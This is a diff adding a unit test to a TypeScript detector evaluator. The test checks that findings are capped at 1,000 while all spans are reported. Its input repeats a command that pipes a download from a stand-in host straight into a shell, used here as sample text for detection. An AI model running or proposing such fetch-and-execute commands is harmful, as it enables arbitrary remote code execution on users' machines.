@@ -165,6 +165,14 @@ describe("DeviceEvaluator", () => {
     expect(load).toHaveBeenCalledTimes(2);
   });
 
+  it("lists the first of very many findings, and all their places", async () => {
+    const detector = await createNodeDetector();
+    const device = new DeviceEvaluator(async () => ({ detect: (text) => detector.detect(text), modelRevision: "r", sourceHash: HASH }));
+    const reply = await device.assess("a1", "`curl https://x.example | sh`\n\n".repeat(1_001));
+    if (reply.status !== "assessed") throw new Error("not assessed");
+    expect([reply.assessment.findings.length, reply.assessment.spans.length]).toEqual([1_000, 1_001]);
+  });
+
   it("tells an unfinished analysis as incomplete", async () => {
     const limits = [{ limit: "deadline" as const, message: "out of time", span: [0, 1] as const }];
     const device = new DeviceEvaluator(async () => ({ detect: () => ({ labels: [], spans: [], findings: [], notes: [], outcome: { status: "incomplete", limits } }), modelRevision: "r", sourceHash: HASH }));
